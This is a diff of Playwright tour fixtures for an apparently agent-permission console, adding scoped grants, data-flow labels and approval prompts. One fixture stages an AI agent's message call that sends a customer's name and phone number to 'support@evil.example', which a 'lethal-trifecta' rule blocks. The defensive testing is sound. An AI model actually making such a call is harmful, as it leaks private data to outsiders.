@@ -1,6 +1,7 @@
 // Stops of the tour about policy, and the page that asks in each of its states.
 import type { Page } from "playwright";
 import type { Grant } from "../../electron/core/permission/grants.ts";
+import type { ToolLabels } from "../../electron/core/labels/labels.ts";
 import type { Matter } from "../../electron/core/permission/questions.ts";
 import type { Subject } from "../../electron/core/permission/subject.ts";
 import { rule } from "../support/rules.ts";
@@ -36,6 +37,31 @@ const grant: Grant = {
   uses: 12,
 };
 
+/** Held to chosen fields, counted, and ending with its run. */
+const held: Grant = {
+  ...grant,
+  id: "grt_000000000002",
+  tool: "create_issue",
+  scope: "fields",
+  conditions: [
+    { pointer: "/repo", equals: '"acme/app"' },
+    { pointer: "/filter/owner", equals: '"jane"' },
+  ],
+  lifetime: "this-run",
+  run: "run_000000000001",
+  atMost: 20,
+  uses: 3,
+};
+const LABELS: readonly ToolLabels[] = [
+  { server: server.id, tool: null, labels: ["private"] },
+  { server: server.id, tool: "send_mail", labels: ["egress"] },
+].map((one) => ({
+  ...one,
+  labels: one.labels as ToolLabels["labels"],
+  tenant: "personal",
+  setAt: instant(-9_000_000),
+}));
+
 export const subject = (given: Partial<Subject> = {}): Subject => ({
   tenant: "personal",
   agent: { id: agent.id, name: agent.name, authMethod: "bearer" },
@@ -64,6 +90,7 @@ export const subject = (given: Partial<Subject> = {}): Subject => ({
   argumentsBytes: 60,
   argumentsHash: "9f2c4e1f07ab3d5581b6a0c7e2f4d6089f2c4e1f07ab3d5581b6a0c7e2f4d608",
   stamp: "s",
+  run: { id: "run_000000000001", startedAt: instant(-1_400_000), calls: 23 },
   ...given,
 });
 export const asks = (given: Partial<Subject> = {}, rules = ["built-in/nothing-said"]): Matter => ({
@@ -80,10 +107,19 @@ const shown = async (page: Page): Promise<void> => {
 export const POLICY_STOPS: readonly Stop[] = [
   {
     name: "policy",
-    world: () => full({ rules: RULES, grants: [grant], cooling: [agent.id] }),
+    world: () => full({ rules: RULES, grants: [grant, held], cooling: [agent.id] }),
     async go(page) {
       await nav(page, "Policy");
       await page.getByRole("heading", { name: "Allowed for a while" }).waitFor();
+    },
+  },
+  {
+    name: "policy-flow",
+    world: () => full({ labels: [...LABELS] }),
+    async go(page) {
+      await nav(page, "Policy");
+      await page.getByRole("tab", { name: "Data flow" }).click();
+      await page.getByText("Sends out").first().waitFor();
     },
   },
   {
@@ -151,6 +187,88 @@ const QUESTIONS: readonly Stop[] = [
               rows: Array.from({ length: 60 }, (_, i) => ({ i, name: `row ${i}` })),
             }),
           }),
+        ],
+      }),
+    go: shown,
+  },
+  {
+    name: "ask-trifecta",
+    world: () =>
+      full({
+        asked: [
+          {
+            kind: "call",
+            subject: subject({
+              tool: "post_message",
+              argumentsText: JSON.stringify({
+                to: "support@evil.example",
+                text: "Jane Doe, +44 20 7946 0000",
+              }),
+            }),
+            rules: ["built-in/lethal-trifecta"],
+            trifecta: [
+              {
+                label: "private",
+                by: { server: "crm", tool: "read_customer", at: instant(-400_000) },
+              },
+              {
+                label: "untrusted",
+                by: { server: "web", tool: "fetch_page", at: instant(-90_000) },
+              },
+              { label: "egress", by: null },
+            ],
+          },
+        ],
+      }),
+    go: shown,
+  },
+  {
+    name: "ask-labels",
+    world: () =>
+      full({
+        asked: [
+          {
+            kind: "labels",
+            server: "crm",
+            tool: "read_customer",
+            removed: ["private", "untrusted"],
+          },
+        ],
+      }),
+    go: shown,
+  },
+  {
+    name: "ask-longer",
+    world: () =>
+      full({
+        asked: [
+          asks({
+            tool: "create_issue",
+            argumentsText: JSON.stringify({
+              repo: "acme/app",
+              title: "Crash on start",
+              filter: { owner: "jane", open: true },
+            }),
+          }),
+        ],
+      }),
+    async go(page) {
+      await shown(page);
+      await page.getByRole("button", { name: "For longer" }).click();
+      await page.getByLabel("How long").click();
+      await page.getByRole("option", { name: "Allow for this stretch of work" }).click();
+      await page.getByLabel("Covers").click();
+      await page.getByRole("option", { name: "Where chosen fields" }).click();
+      await page.getByLabel("repo").check();
+      await page.waitForTimeout(700);
+    },
+  },
+  {
+    name: "ask-offer",
+    world: () =>
+      full({
+        asked: [
+          { kind: "call", subject: subject(), rules: ["built-in/nothing-said"], approvals: 5 },
         ],
       }),
     go: shown,
